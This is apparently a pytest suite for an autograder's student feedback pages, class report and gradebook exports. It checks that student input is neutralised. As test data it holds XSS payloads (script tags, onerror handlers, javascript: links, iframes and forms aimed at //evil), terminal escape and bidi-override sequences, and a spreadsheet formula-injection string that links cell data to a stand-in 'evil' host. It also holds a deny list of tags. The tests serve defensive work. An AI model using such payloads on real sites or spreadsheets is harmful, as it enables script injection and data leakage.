"""Pages and exports: what people need is on them, and nothing that a student chose ever runs."""

from __future__ import annotations

import base64
import csv
import io
import json
import struct
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.checks.misconceptions import CATALOGUE, Misconception
from autograder.config import Config
from autograder.errors import UsageError
from autograder.grading.storage import save
from autograder.reports.classroom import write_report
from autograder.reports.exports import export
from autograder.reports.feedback import write_feedback
from autograder.reports.gradebook import GradebookWriter
from autograder.reports.grades import database_url
from autograder.reports.inert import MAX_MARKDOWN, clean, figure, markdown
from autograder.reports.pages import late, prose
from autograder.results import Flag, SubmissionResult
from tests.small_class import ASSIGNMENT, HIDDEN, autograded, check, make_course, make_result, problem, store

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # of nbgrader, where a test calls it

SCRIPT = "<script>alert(1)</script>"
HOSTILE = f"{SCRIPT}<img src=x onerror=alert(1)>\"'\x1b]8;;http://evil/\x07link\x1b[31mred\u202e"
WRONG = check(
    "adds", "failed", 0.0, 2.0, message="The answer is `3`, expected `4`.", misconception="sign_of_small_class",
    hint="Look at the sign.",
)  # fmt: skip


class Page(HTMLParser):
    """A page's elements and its text."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.source = path.read_text("utf-8")
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._styling = False
        self.feed(self.source)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attributes)))
        self._styling = tag == "style"
        self.text += " " if tag in ("td", "th") else ""

    def handle_endtag(self, tag: str) -> None:
        self._styling = False

    def handle_data(self, data: str) -> None:
        if not self._styling:
            self.text += data

    @property
    def words(self) -> str:
        return " ".join(self.text.split())

    def assert_inert(self) -> None:
        tags = [tag for tag, _ in self.elements]
        assert not set(tags) & {"script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg"}
        assert tags.count("style") == 1
        assert tags[:4] == ["html", "head", "meta", "meta"]
        policy = self.elements[3][1]
        assert policy["http-equiv"] == "Content-Security-Policy"
        assert (policy["content"] or "").startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
        for tag, attributes in self.elements:
            for name, value in attributes.items():
                assert not name.startswith("on")
                assert name not in ("srcdoc", "srcset", "formaction", "ping")
                if name == "src":
                    assert tag == "img"
                    assert (value or "").startswith("data:image/")
                if name == "href":
                    assert (value or "").startswith(("#", "../feedback/", "https://", "http://", "mailto:"))
        assert "\x1b" not in self.source
        assert "\u202e" not in self.source


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Config:
    monkeypatch.setitem(
        CATALOGUE, "sign_of_small_class", Misconception("This subtracts where it should add.", "Look at the sign.")
    )
    return make_course(tmp_path / "course")


@pytest.fixture
def grade(course: Config) -> Callable[..., None]:
    """Grades results: stored, and written to the gradebook."""

    def write(*results: SubmissionResult, timestamp: str | None = None, **notebook: Any) -> None:
        with GradebookWriter(course) as writer:
            writer.prepare(ASSIGNMENT)
            for result in results:
                made = None if result.problem else autograded(course, result, **notebook)
                store(course, result, made)
                writer.write(result, made, timestamp)

    return write


def gradebook(course: Config) -> Gradebook:
    return Gradebook(database_url(course.gradebook), course.course_id)


def feedback(course: Config) -> Page:
    (path,) = write_feedback(course, ASSIGNMENT)
    assert path == course.feedback / "ann" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    page = Page(path)
    page.assert_inert()
    return page


def report(course: Config, assignment: str | None = None) -> Page:
    page = Page(write_report(course, assignment))
    page.assert_inert()
    return page


def png(width: int, height: int) -> str:
    raw = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", width, height)
    return base64.b64encode(raw).decode()


class TestInert:
    @pytest.mark.parametrize(
        ("text", "cleaned"),
        [
            ("a\x1b[1;31mb\x1b[0mc", "abc"),
            ("\x1b]0;title\x07a\x1b]8;;http://x\x1b\\b\x9b1mc", "abc"),
            ("10%\r20%\rdone\r\nnext", "done\nnext"),
            ("a\u202eb\u200bc", r"a\u202eb\u200bc"),
            ("x\u200dy", r"x\u200dy"),
            ("a\x00\x08b\tc\n", "ab\tc\n"),
            ("\U000e0041", r"\U000e0041"),
        ],
    )
    def test_clean(self, text: str, cleaned: str) -> None:
        assert clean(text) == cleaned

    @pytest.mark.parametrize("attachments", [None, {"x.png": None}, {"x.png": {}}, {"x.png": {"text/html": SCRIPT}}])
    def test_an_attachment_that_is_missing_or_none_leaves_its_words(self, attachments: dict[str, Any] | None) -> None:
        assert 'alt="a curve"' in markdown("Look: ![a curve](attachment:x.png)", attachments)

    def test_prose_keeps_what_joins_letters(self) -> None:
        assert clean("x\u200dy", joiners=True) == "x\u200dy"

    def test_prose_sets_code(self) -> None:
        assert prose("`a<b` is <b>") == "<code>a&lt;b</code> is &lt;b&gt;"

    @pytest.mark.parametrize(
        "text",
        [
            SCRIPT,
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "<a href='vbscript:x'>x</a><a href=' data:text/html,x'>y</a>",
            "<svg onload=alert(1)></svg><math><mi xlink:href='javascript:alert(1)'>",
            "<style>*{background:url(//evil)}</style><iframe src=//evil></iframe><form action=//evil><input></form>",
            f"$x$ `code {SCRIPT}` $${SCRIPT}$$ \\begin{{a}}{SCRIPT}\\end{{a}}",
            f"```{SCRIPT}\n{SCRIPT}\n```",
        ],
    )
    def test_markdown_runs_nothing(self, text: str, tmp_path: Path) -> None:
        page = tmp_path / "page.html"
        page.write_text(markdown(text))
        for tag, attributes in Page(page).elements:
            assert tag not in ("script", "iframe", "style", "form", "input", "svg", "math")
            assert not any(name.startswith("on") or name == "style" for name in attributes)
            for name in ("href", "src"):
                assert not attributes.get(name)

    def test_markdown_keeps_what_people_write(self) -> None:
        assert "<strong>b</strong>" in markdown("**b**")
        assert "$x_1 * y_2 * z$" in markdown("$x_1 * y_2 * z$")
        assert 'href="https://pytorch.org"' in markdown("[p](https://pytorch.org)")

    def test_markdown_of_any_length_takes_little_time(self) -> None:
        assert markdown("\\begin{a}" * MAX_MARKDOWN).startswith("<pre>")

    def test_figures(self) -> None:
        assert figure({"image/png": png(640, 480)}) == f"data:image/png;base64,{png(640, 480)}"
        drawn = figure({"image/svg+xml": f"<svg>{SCRIPT}</svg>"})
        assert drawn is not None
        assert drawn.startswith("data:image/svg+xml;base64,")

    @pytest.mark.parametrize(
        "data",
        [
            {},
            {"text/html": "<img src=x>"},
            {"image/png": "!!!"},
            {"image/png": base64.b64encode(b"GIF89a" + b"\0" * 30).decode()},
            {"image/png": png(100_000, 100_000)},
            {"image/png": '"><script>alert(1)</script>'},
            {"image/svg+xml": "<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg/>"},
            {"image/svg+xml": "not a drawing"},
        ],
    )
    def test_what_is_no_figure(self, data: dict[str, str]) -> None:
        assert figure(data) is None

    @pytest.mark.parametrize(
        ("seconds", "words"),
        [(30, "less than a minute"), (7_500, "2 hours 5 minutes"), (90_061, "1 day 1 hour"), (60, "1 minute")],
    )
    def test_late(self, seconds: float, words: str) -> None:
        assert late(seconds) == words


class TestFeedback:
    def test_it_says_what_was_found(self, course: Config, grade: Callable[..., None]) -> None:
        skipped = check("more", "skipped", 0.0, 0.0, message="Not checked: the function has to be written first.")
        grade(
            make_result("ann", 0.0, add_checks=(WRONG, skipped, check())), answers={"add": "def add(a, b):\n    a - b"}
        )
        words = feedback(course).words
        assert "3 of 9 points" in words
        assert "Adding add 0 of 2" in words
        assert "✗ Not passed. It adds two numbers. 0 / 2 The answer is 3, expected 4. Hint: Look at the sign." in words
        assert "– Skipped. It adds two numbers. 0 / 0 Not checked: the function has to be written first." in words
        assert "✓ Passed. It adds two numbers. 1 / 1" in words
        assert "Your code def add(a, b): a - b" in words
        assert "A person has yet to look at 1 exercise" in words
        assert "A question why not read yet" in words
        assert "Your answer Because addition commutes." in words

    def test_it_shows_no_hidden_test(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann"))
        source = feedback(course).source
        assert HIDDEN not in source
        assert "assert callable" not in source

    @pytest.mark.parametrize(
        "texts", [["x" * 2_000_000], ["x\n"] * 20_000, ["x\n" * 500_000]], ids=["a-line", "outputs", "lines"]
    )
    def test_it_shows_a_part_of_what_is_printed_without_end(
        self, course: Config, grade: Callable[..., None], texts: list[str]
    ) -> None:
        outputs = [{"output_type": "stream", "name": "stdout", "text": text} for text in texts]
        grade(make_result("ann"), outputs={"add": outputs})
        source = feedback(course).source
        assert len(source) < 100_000
        assert ("…" in source) == (len(texts) == 1)

    def test_it_shows_what_people_did(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann", 1.0), timestamp="2026-03-01 14:05:00 UTC")
        with gradebook(course) as book:
            book.update_or_create_assignment(ASSIGNMENT, duedate="2026-03-01 12:00:00 UTC")
            why = book.find_grade("why", ASSIGNMENT, ASSIGNMENT, "ann")
            why.manual_score, why.needs_manual_grade = 3.5, False
            add = book.find_grade("test_add", ASSIGNMENT, ASSIGNMENT, "ann")
            add.manual_score, add.extra_credit, add.needs_manual_grade = 2.0, 0.5, False
            book.find_comment("why", ASSIGNMENT, ASSIGNMENT, "ann").manual_comment = f"*Well* put. {SCRIPT}"
            book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "ann").late_submission_penalty = 1.0
            book.db.commit()
        page = feedback(course)
        assert "8 of 9 points 1 point was taken off for handing in 2 hours 5 minutes late." in page.words
        assert "A person set this score; the checks alone gave 1. Extra credit: 0.5." in page.words
        assert "<em>Well</em> put." in page.source
        assert "A question why 3.5 of 4" in page.words
        assert "has yet to look" not in page.words

    def test_what_could_not_be_graded_is_no_zero(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann", None, add_checks=(check(outcome="error", points=0.0),)))
        words = feedback(course).words
        assert "Adding add not graded yet" in words
        assert "through no fault of yours" in words
        assert "Could not be checked." in words

    def test_flags_are_in_plain_words(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann", flags=(Flag(kind="cell_timeout", where="scale", detail="the limit is 30 s"),)))
        assert "A cell ran out of time (scale): the limit is 30 s." in feedback(course).words

    def test_outputs(self, course: Config, grade: Callable[..., None]) -> None:
        outputs: list[dict[str, Any]] = [
            {"output_type": "stream", "name": "stdout", "text": f"loss {HOSTILE}\n" + "line\n" * 500},
            {"output_type": "display_data", "data": {"image/png": png(64, 48), "text/html": SCRIPT}, "metadata": {}},
            {"output_type": "error", "ename": "E", "evalue": "", "traceback": ["\x1b[31mE\x1b[0m: bad"]},
        ]
        grade(make_result("ann"), outputs={"add": outputs})
        page = feedback(course)
        assert f"loss {SCRIPT}<img" in page.text
        assert page.text.count("line\n") == 199
        assert [tag for tag, _ in page.elements].count("img") == 1
        assert "An error that your code raised E: bad" in page.words

    def test_nothing_that_a_student_chose_runs(self, course: Config, grade: Callable[..., None]) -> None:
        hostile = check(HOSTILE, "failed", 0.0, 2.0, message=HOSTILE, hint=HOSTILE, misconception=HOSTILE)
        flags = (Flag(kind="hidden_characters", where=HOSTILE, detail=HOSTILE),)
        grade(make_result("ann", add_checks=(hostile,), flags=flags), answers={"add": HOSTILE, "why": HOSTILE})
        page = feedback(course)
        assert page.text.count(SCRIPT) >= 5
        assert r"\u202e" in page.text

    def test_a_problem(self, course: Config, grade: Callable[..., None]) -> None:
        grade(problem("ann", f"{course.root}/submitted/x.ipynb is not JSON. Hand it in again."))
        page = feedback(course)
        assert "could not be graded. submitted/x.ipynb is not JSON. Hand it in again." in page.words
        assert str(course.root) not in page.source

    def test_without_a_gradebook_the_result_stands(self, course: Config) -> None:
        store(course, make_result("ann"))
        words = feedback(course).words
        assert "5 of 9 points" in words
        assert "A question why not read yet" in words


class TestReport:
    def test_the_class_at_a_glance(self, course: Config, grade: Callable[..., None]) -> None:
        grade(
            make_result("ann", 0.0, 0.0, add_checks=(WRONG, WRONG)),
            make_result("bob", 1.0, add_checks=(WRONG,), flags=(Flag(kind="moved_cell", where="add", detail=""),)),
            make_result("cleo", None),
            problem("dan", f"{course.root}/submitted/dan is empty."),
        )
        with gradebook(course) as book:
            book.add_student("eve")
        for folder in (f"new/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", f"empty/{ASSIGNMENT}"):
            (course.submitted / folder).mkdir(parents=True)
        write_feedback(course, ASSIGNMENT)
        page = report(course)
        assert "3 graded" in page.words
        assert "dan could not be graded. submitted/dan is empty." in page.words
        assert "cleo: add could not be graded, through no fault of the student's." in page.words
        assert "new handed in and is not graded yet. Grade again." in page.words
        assert "empty handed in and is not graded yet." in page.words
        assert f"Name the notebook {ASSIGNMENT}.ipynb." in page.words
        assert "why: 3 answers wait to be read." in page.words
        assert "Nothing handed in: eve." in page.words
        assert "This subtracts where it should add. sign_of_small_class add 2" in page.words
        assert "ann 0 0 waits 0" in page.words
        assert "bob 1 3 waits 4 a cell was moved" in page.words
        assert "cleo ungraded 3 waits 3 could not be graded: add" in page.words
        assert "dan – – – – not graded" in page.words
        assert "Mean 0.5 2 – 2.3" in page.words
        assert "40–50 % 1" in page.words
        assert ("a", {"href": f"../feedback/ann/{ASSIGNMENT}/{ASSIGNMENT}.html"}) in page.elements

    def test_people_and_penalties_count(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann"), timestamp="2026-03-02 00:00:00 UTC")
        with gradebook(course) as book:
            book.update_or_create_assignment(ASSIGNMENT, duedate="2026-03-01 12:00:00 UTC")
            book.update_or_create_student("ann", first_name="Ann", last_name="Lee")
            why = book.find_grade("why", ASSIGNMENT, ASSIGNMENT, "ann")
            why.manual_score, why.needs_manual_grade = 4.0, False
            book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "ann").late_submission_penalty = 1.5
            book.db.commit()
        words = report(course, ASSIGNMENT).words
        assert "ann Ann Lee 2 3 4 −1.5 7.5 late" in words
        assert "Needs a person" not in words

    def test_nothing_that_a_student_chose_runs(self, course: Config, grade: Callable[..., None]) -> None:
        hostile = "<img src=x onerror=alert(1)>"
        grade(make_result(hostile, None, flags=(Flag(kind="cell_error", where=HOSTILE, detail=HOSTILE),)))
        grade(problem(f"{hostile}2", HOSTILE))
        write_feedback(course, ASSIGNMENT)
        assert report(course).text.count(hostile) >= 4

    def test_every_assignment_has_a_section(self, course: Config, grade: Callable[..., None]) -> None:
        grade(make_result("ann"))
        other = course.source_notebook("02_other")
        other.parent.mkdir()
        other.write_bytes(course.source_notebook(ASSIGNMENT).read_bytes())
        save(course, msgspec.structs.replace(make_result("ann", 1.0), assignment="02_other"), None)
        page = report(course)
        assert "01_small 1 5 9 yes 02_other 1 4 9 yes" in page.words
        assert [attributes.get("id") for tag, attributes in page.elements if tag == "section"] == [
            ASSIGNMENT,
            "02_other",
        ]
        assert "02_other" not in report(course, ASSIGNMENT).words

    def test_before_anything_is_graded(self, course: Config) -> None:
        assert "Nothing has been graded yet." in report(course).words


class TestExports:
    @pytest.fixture
    def graded(self, course: Config, grade: Callable[..., None]) -> Config:
        wrong = (check("adds", "failed", 0.0, 2.0, message="The answer is 3.", hint="Look."),)
        grade(make_result("ann", 0.0, add_checks=wrong), make_result("bob"), timestamp="2026-03-01 12:00:00 UTC")
        with gradebook(course) as book:
            book.update_or_create_assignment(ASSIGNMENT, duedate="2026-03-01 12:00:00 UTC")
            book.update_or_create_student("ann", first_name="Ann", last_name="Lee", email="Ann@x.org", lms_user_id="77")
            book.add_student("zoe")
            for student in ("ann", "bob"):
                why = book.find_grade("why", ASSIGNMENT, ASSIGNMENT, student)
                why.manual_score, why.needs_manual_grade = 1.5, student == "bob"
            book.find_comment("why", ASSIGNMENT, ASSIGNMENT, "ann").manual_comment = "Short."
            book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "ann").late_submission_penalty = 0.5
            book.db.commit()
        return course

    def rows(self, course: Config, kind: str) -> list[list[str]]:
        file = export(course, kind, ASSIGNMENT, course.root / "out" / "grades").file
        return list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))

    def test_csv_is_nbgraders(self, graded: Config, tmp_path: Path) -> None:
        plugin = CsvExportPlugin()
        plugin.to = str(tmp_path / "theirs.csv")
        with gradebook(graded) as book:
            plugin.export(book)
        theirs = {row["student_id"]: row for row in csv.DictReader((tmp_path / "theirs.csv").open())}
        header, *rows = self.rows(graded, "csv")
        ours = {row["student_id"]: row for row in (dict(zip(header, row, strict=True)) for row in rows)}
        assert ours.keys() == theirs.keys()
        for student, expected in theirs.items():
            assert list(ours[student]) == list(expected)
            for name, value in expected.items():
                numeric = "score" in name or "penalty" in name
                assert ours[student][name] == (f"{float(value):g}" if numeric else value)

    def test_canvas(self, graded: Config) -> None:
        assert self.rows(graded, "canvas") == [
            ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT],
            ["Points Possible", "", "", "", "", "9"],
            ["Lee, Ann", "77", "", "ann", "", "4"],
            ["bob", "", "", "bob", "", "6.5"],
            ["zoe", "", "", "zoe", "", ""],
        ]

    def test_moodle(self, graded: Config) -> None:
        assert self.rows(graded, "moodle") == [
            ["First name", "Surname", "ID number", "Username", "Email address", ASSIGNMENT],
            ["Ann", "Lee", "77", "ann", "Ann@x.org", "4"],
            ["", "", "", "bob", "", "6.5"],
            ["", "", "", "zoe", "", ""],
        ]

    def gradescope(self, course: Config, tmp_path: Path, email: str) -> dict[str, Any]:
        """What Gradescope would get for a submitter."""
        file = export(course, "gradescope", ASSIGNMENT, tmp_path / "autograder.zip").file
        with zipfile.ZipFile(file) as archive:
            archive.extractall(tmp_path / "source")
            modes = {entry.filename: entry.external_attr >> 16 for entry in archive.infolist()}
        assert modes == {"setup.sh": 0o755, "run_autograder": 0o755, "results.json": 0o644}
        (tmp_path / "submission_metadata.json").write_text(json.dumps({"users": [{"email": email}]}))
        script = (tmp_path / "source" / "run_autograder").read_text()
        assert 'Path("/autograder")' in script
        exec(script.replace("/autograder", str(tmp_path)), {})
        verdict: dict[str, Any] = json.loads((tmp_path / "results" / "results.json").read_text())
        return verdict

    def test_gradescope(self, graded: Config, tmp_path: Path) -> None:
        verdict = self.gradescope(graded, tmp_path, "ann@x.org")
        assert verdict["score"] == 4.0
        assert verdict["output"] == "0.5 points were taken off for handing in late."
        assert verdict["tests"] == [
            {
                "name": "add: It adds two numbers.", "score": 0.0, "max_score": 2.0, "status": "failed",
                "output": "Not passed.\nThe answer is 3.\nHint: Look.", "output_format": "text",
            },
            {"name": "scale", "score": 3.0, "max_score": 3.0, "output": ""},
            {"name": "why", "score": 1.5, "max_score": 4.0, "output": "Short."},
        ]  # fmt: skip

    def test_gradescope_finds_a_student_without_an_address_by_id(self, graded: Config, tmp_path: Path) -> None:
        assert self.gradescope(graded, tmp_path, "bob@x.org")["score"] == 6.5

    @pytest.mark.parametrize("email", ["zoe@x.org", "ann@elsewhere.org"])
    def test_gradescope_gives_nobody_anothers_grade(self, graded: Config, tmp_path: Path, email: str) -> None:
        assert self.gradescope(graded, tmp_path, email)["output"].startswith("There is no grade for you")

    def test_gradescope_does_not_mix_two_students_up(self, graded: Config, grade: Callable[..., None]) -> None:
        grade(make_result("Bob"))
        with pytest.raises(UsageError, match="cannot tell two students apart who are both called bob"):
            export(graded, "gradescope", ASSIGNMENT)

    def test_what_rounding_leaves_is_not_written(self, graded: Config) -> None:
        with gradebook(graded) as book:
            book.find_grade("why", ASSIGNMENT, ASSIGNMENT, "ann").manual_score = 1e-17
            book.find_grade("test_scale", ASSIGNMENT, ASSIGNMENT, "ann").manual_score = 0.1 + 0.2
            book.db.commit()
        assert self.rows(graded, "csv")[1][7:10] == ["0.3", "0.5", "0"]

    def test_what_waits_is_said(self, graded: Config, tmp_path: Path) -> None:
        written = export(graded, "csv", None, tmp_path / "grades.csv")
        assert written.grades == 2
        assert written.remarks == (
            "01_small: 1 of 2 submissions still wait for a person (bob); what waits counts 0.",
        )  # fmt: skip

    @pytest.mark.parametrize("kind", ["csv", "canvas", "moodle"])
    def test_no_formula_reaches_a_spreadsheet(self, course: Config, grade: Callable[..., None], kind: str) -> None:
        formula = '=HYPERLINK("http://evil/"&A1,"x")'
        grade(make_result(formula), make_result("\x1b[31m @SUM(1)"), make_result("\u202e+1"), make_result("－2"))
        with gradebook(course) as book:
            book.update_or_create_student("－2", first_name="\t=1", last_name=" -1\r\n=2", email="@x", lms_user_id="+7")
        fields = [field for row in self.rows(course, kind) for field in row]
        assert f"'{formula}" in fields
        assert not [field for field in fields if field.lstrip().startswith(("=", "+", "-", "@", "－"))]
        assert not [field for field in fields if any(ord(c) < 32 for c in field)]

    def test_misuse(self, graded: Config, tmp_path: Path) -> None:
        with pytest.raises(UsageError, match="no export to `excel`"):
            export(graded, "excel")
        with pytest.raises(UsageError, match="has no grades of 02_other"):
            export(graded, "csv", "02_other")
        with pytest.raises(UsageError, match="one assignment at a time"):
            export(graded, "gradescope")

    def test_the_file_has_a_name_by_default(self, graded: Config, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(graded.root)
        names = [export(graded, kind, ASSIGNMENT).file.name for kind in ("csv", "canvas", "moodle", "gradescope")]
        assert names == ["grades.csv", "grades-canvas.csv", "grades-moodle.csv", "gradescope-01_small.zip"]
        assert all((graded.root / name).is_file() for name in names)


def test_results_of_another_version_are_passed_over(course: Config) -> None:
    store(course, make_result("ann"))
    file = course.results / "ann" / f"{ASSIGNMENT}.json"
    file.write_bytes(msgspec.json.encode({"schema": 0}))
    assert write_feedback(course, ASSIGNMENT) == []
    assert "Nothing has been graded yet." in report(course).words
